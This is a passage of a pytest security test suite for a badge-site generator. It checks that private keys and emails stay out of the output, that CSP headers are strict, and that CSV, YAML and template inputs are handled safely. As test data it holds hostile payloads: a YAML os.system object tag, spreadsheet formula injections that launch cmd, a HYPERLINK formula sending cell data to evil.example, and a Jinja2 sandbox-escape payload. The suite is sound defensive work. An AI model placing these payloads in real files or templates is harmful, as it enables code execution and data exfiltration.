    assert tree_bytes(out) == before


def _secret_forms(key) -> list[bytes]:
    """Byte strings that would betray ``key`` if found in a published file."""
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    der = key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    forms = [der, base64.b64encode(der)[:48]]
    forms += [line for line in pem.splitlines() if line and not line.startswith(b"-----")]
    if isinstance(key, rsa.RSAPrivateKey):
        numbers = key.private_numbers()
        for secret in (numbers.d, numbers.p, numbers.q):
            raw = secret.to_bytes((secret.bit_length() + 7) // 8, "big")
            forms += [raw, base64.urlsafe_b64encode(raw).rstrip(b"=")[:48], raw.hex().encode()[:64]]
    else:
        raw = key.private_bytes_raw()
        forms += [raw, base64.urlsafe_b64encode(raw).rstrip(b"="), base64.b64encode(raw), raw.hex().encode()]
    return forms


def test_real_private_keys_never_reach_output(minimal_site, run, monkeypatch, tmp_path):
    publishable(minimal_site)  # (a production build refuses the example base_url)
    generated = run("keys", "generate", "--source", str(minimal_site), "--today", TODAY)
    assert generated.code == 0, generated.err
    pem_files = sorted((tmp_path / "private-keys").glob("*.pem"))
    assert len(pem_files) == 2
    keys = [serialization.load_pem_private_key(p.read_bytes(), password=None) for p in pem_files]
    assert not any(b"PRIVATE" in p.read_bytes() for p in (minimal_site / "site_src" / "keys").iterdir())
    # Also hand the keys over the CI way, so both loading paths are exercised.
    monkeypatch.setenv("BADGEKILN_PRIVATE_KEYS", "".join(p.read_text() for p in pem_files))
    assert "DEVELOPMENT" not in build(run, minimal_site).err  # pins the keys in awards.lock
    assert "DEVELOPMENT" not in build(run, minimal_site, "--production").err
    out = tree_bytes(minimal_site / "output")
    for rel, content in out.items():
        assert b"PRIVATE KEY" not in content, rel
        assert b'"d":' not in content.replace(b" ", b""), rel
        for key in keys:
            for form in _secret_forms(key):
                assert form not in content, (rel, form[:16])
    for p in pem_files:  # the files on disk are the owner's only
        assert p.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize("where", ["narrative", "criteria", "asset", "page"])
def test_pem_private_key_pasted_into_sources_is_not_published(minimal_site, run, where):
    pem = (
        ed25519.Ed25519PrivateKey.generate()
        .private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
        .decode()
    )
    files = {
        "narrative": {"recipients/ann.yaml": recipient(f"narrative: {json.dumps('Key: ' + pem)}\n")},
        "criteria": {
            "badges/first-badge.yaml": textwrap.dedent(MINIMAL["badges/first-badge.yaml"]).replace(
                "criteria: Did the thing.", f"criteria: {json.dumps(pem)}"
            )
        },
        "asset": {
            "site_src/assets/notes.svg": MINIMAL["site_src/assets/badge.svg"].replace(
                b"</svg>", b"<desc>" + pem.encode() + b"</desc></svg>"
            )
        },
        "page": {"site_src/pages/keys.md": f"---\ntitle: Keys\n---\n```\n{pem}```\n"},
    }[where]
    result = build_then_break(run, minimal_site, files)
    assert result.code != 0 and "Traceback" not in result.err
    assert "private key" in result.err


# ============================================================================================
# 6. Earners' email addresses
# ============================================================================================

EMAIL = "Ann.Example+Badges@Example.CO.UK"


def _email_forms(email: str) -> list[bytes]:
    forms = set()
    for variant in (email, email.lower(), email.upper()):
        forms |= {
            variant,
            quote(variant, safe=""),
            quote(variant),
            quote_plus(variant),
            variant.replace("@", "&#64;"),
            variant.replace("@", "&#x40;"),
            variant.replace("@", "\\u0040"),
            html.escape(variant),
            base64.b64encode(variant.encode()).decode().rstrip("="),
        }
    return sorted(f.lower().encode() for f in forms)


def test_earner_email_never_appears_in_output(minimal_site, run):
    write_site(
        minimal_site,
        {"recipients/ann.yaml": recipient(email=EMAIL) + "  - badge: first-badge\n    issued_on: 2026-02-01\n"},
    )
    build(run, minimal_site)
    local = EMAIL.split("@")[0].lower()
    for rel, content in tree_bytes(minimal_site / "output").items():
        lowered = content.lower()
        for form in _email_forms(EMAIL):
            assert form not in lowered, (rel, form)
        assert local.encode() not in rel.lower().encode()
        assert "example.co.uk" not in rel.lower()


@pytest.mark.parametrize("field", ["name", "narrative", "evidence"])
def test_email_pasted_into_published_text_is_refused(minimal_site, run, field):
    extra = {
        "name": "",
        "narrative": f"narrative: Contact {EMAIL.upper()}\n",
        "evidence": f"evidence:\n  - narrative: sent to {EMAIL.lower()}\n",
    }[field]
    name = f"Ann <{EMAIL}>" if field == "name" else "Ann Example"
    write_site(minimal_site, {"recipients/ann.yaml": recipient(extra, name=name, email=EMAIL)})
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    assert_refused(result, "recipients/ann.yaml", "email")


# ============================================================================================
# 7. Content-Security-Policy: the second line of defence
# ============================================================================================


def _headers_rules(text: str) -> dict[str, dict[str, str]]:
    rules: dict[str, dict[str, str]] = {}
    current = None
    for line in text.splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        if not line.startswith(" "):
            current = rules.setdefault(line.strip(), {})
        else:
            name, _, value = line.strip().partition(": ")
            current[name.lower()] = value
    return rules


def _directives(csp: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in csp.split(";") if part.strip()}


@pytest.mark.parametrize("base_url", ["https://badges.example.org/", "https://org.github.io/badges/"])
def test_headers_file_sets_a_strict_csp_for_pages_and_svg(minimal_site, run, base_url):
    build(run, minimal_site, "--base-url", base_url)
    rules = _headers_rules((minimal_site / "output/_headers").read_text())
    prefix = "/badges/" if "github" in base_url else "/"
    assert rules[prefix + "*"]["x-content-type-options"] == "nosniff"
    # Pages (directory URLs and .html) get the strict CSP; other files get theirs from their own rule,
    # so that no path receives two values of one header (Cloudflare Pages would join them).
    assert rules[prefix + "*/"]["content-security-policy"] == rules[prefix + "*.html"]["content-security-policy"]
    assert "content-security-policy" not in rules[prefix + "*"]
    pages = rules[prefix + "*/"]
    csp = _directives(pages["content-security-policy"])
    assert csp["default-src"] == ["'none'"] and csp["script-src"] == ["'self'"]
    assert csp["base-uri"] == ["'none'"] and csp["form-action"] == ["'none'"] and csp["frame-ancestors"] == ["'none'"]
    assert not any(
        v in {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"}
        for key in ("script-src", "default-src", "style-src")
        for v in csp.get(key, [])
    )
    svg = rules[prefix + "*.svg"]
    svg_csp = _directives(svg["content-security-policy"])
    assert svg_csp["default-src"] == ["'none'"] and "script-src" not in svg_csp
    assert svg["content-type"] == "image/svg+xml"


def test_every_page_has_a_meta_csp_first_and_no_inline_script_or_style(example_site, run):
    build(run, example_site)
    pages = html_files(example_site / "output")
    assert len(pages) >= 10
    for rel, page in pages.items():
        head = page.split("</head>")[0]
        meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', head)
        assert meta, rel
        first_resource = re.search(r"<(?:link|script|style|img|base)\b", head)
        assert first_resource is None or first_resource.start() > meta.start(), rel
        csp = _directives(html.unescape(meta.group(1)))
        assert csp["default-src"] == ["'none'"] and csp["script-src"] == ["'self'"], rel
        assert csp["base-uri"] == ["'none'"], rel
        assert "'unsafe-inline'" not in html.unescape(meta.group(1)), rel
        found = audit(page)
        assert found.problems == [], (rel, found.problems)
        # (style attributes: the audit above, on the parsed page; ' style=' may be text there, as in
        # an award page's embed code, which carries its own inline styles for the earner's site)
        assert "<style" not in page, rel


# ============================================================================================
# 8. Spreadsheets: CSV in (award import) and CSV out (export, report)
# ============================================================================================

CSV_NASTY_NAMES = [
    'Mallory", show_name: false, email: "mallory-at-evil.example',
    "&a *a !!python/object/apply:os.system ['id'] {x: y} # not a comment",
    "Ann: Example - [1] | > ? % @ ` '",
    'O\'Neil "Junior" \\ backslash',
]


def test_csv_import_cannot_inject_yaml(minimal_site, run, tmp_path):
    rows = tmp_path / "awards.csv"
    lines = ["name,email,badge,issued_on,narrative"]
    for n, name in enumerate(CSV_NASTY_NAMES):
        quoted = '"' + name.replace('"', '""') + '"'
        lines.append(f"{quoted},person{n}@example.com,first-badge,2026-03-0{n + 1},{quoted}")
    rows.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run("award", "--source", str(minimal_site), "--today", TODAY, "--csv", str(rows))
    assert result.code == 0, result.err
    from badgekiln.sources.loading import load_yaml

    found = {}
    for path in (minimal_site / "recipients").glob("*.yaml"):
        data = load_yaml(path, minimal_site).data
        found[data["email"]] = data
    for n, name in enumerate(CSV_NASTY_NAMES):
        data = found[f"person{n}@example.com"]
        assert data["name"] == name and set(data) == {"name", "email", "awards"}
        assert data["awards"][0]["narrative"] == name
    assert "mallory-at-evil.example" not in found
    assert run("check", "--source", str(minimal_site), "--today", TODAY).code == 0  # (valid YAML, texts as given)
    # A name holding an email address would be published (every text of a recipient file is
    # public): refused at the import, before anything is written.
    before = sorted(p.name for p in (minimal_site / "recipients").iterdir())
    rows.write_text(
        'name,email,badge,issued_on\n"Mallory"", email: ""mallory@evil.example",p9@example.com,first-badge,2026-03-09\n'
    )
    refused = run("award", "--source", str(minimal_site), "--today", TODAY, "--csv", str(rows))
    assert (
        refused.code == 1
        and "error[email-published]: the name holds an email address (mallory@evil.example)" in refused.err
    )
    assert sorted(p.name for p in (minimal_site / "recipients").iterdir()) == before


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&C2,"Update your badge")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize(
    "command",
    [("export",), ("report", "expiring", "--within", "10y", "--format", "csv")],
    ids=["export", "report-expiring"],
)
def test_csv_exports_do_not_carry_spreadsheet_formulas(minimal_site, run, command):
    for n, formula in enumerate(FORMULAS):
        write_site(
            minimal_site,
            {
                f"recipients/f{n}.yaml": recipient(
                    "expires: 2027-01-15\n", name=formula, email=f"f{n}@example.com", award_id=f"f{n}-first-1"
                )
            },
        )
    write_site(
        minimal_site,
        {"recipients/ann.yaml": recipient("revoked:\n  on: 2026-02-01\n  reason: " + json.dumps(FORMULAS[0]) + "\n")},
    )
    result = run(*command, "--source", str(minimal_site), "--today", TODAY)
    assert result.code == 0, result.err
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(result.out)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_a_template_override_cannot_reach_python(minimal_site, run):
    """templates/ comes from pull requests too: the Jinja2 environment is sandboxed."""
    write_site(
        minimal_site,
        {
            "templates/award.html": """
        {% extends "!builtin/award.html" %}
        {% block main %}{{ cycler.__init__.__globals__.os.system("touch pwned") }}{% endblock %}
    """
        },
    )
    result = run("build", "--source", str(minimal_site), "--today", TODAY)
    assert result.code == 1 and "template error" in result.err
    assert not (minimal_site / "pwned").exists() and not __import__("pathlib").Path("pwned").exists()
